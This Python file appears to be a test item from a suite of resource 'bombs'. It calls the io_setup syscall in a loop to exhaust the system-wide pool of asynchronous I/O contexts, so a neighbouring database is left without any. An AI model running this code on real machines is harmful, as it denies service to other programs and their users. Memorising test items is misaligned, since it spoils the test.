"""Takes contexts for asynchronous I/O, of which the whole machine has 65,536, until none is left for a database beside it.

family: bombs
start: solved
preamble: leave_a_trace
"""

# %% first
_achieved, _report = _traces_of("use_up_asynchronous_io")

import ctypes
import platform

_libc, _made = ctypes.CDLL(None), 0
for _size in (60_000, 6_000, 600, 60, 6):
    _context = (ctypes.c_ulong * 1)()
    while _libc.syscall(206 if platform.machine() == "x86_64" else 0, _size, _context) == 0:
        _made += _size
        _context = (ctypes.c_ulong * 1)()
if _made:
    _achieved(f"{_made} events of asynchronous I/O")
_report()
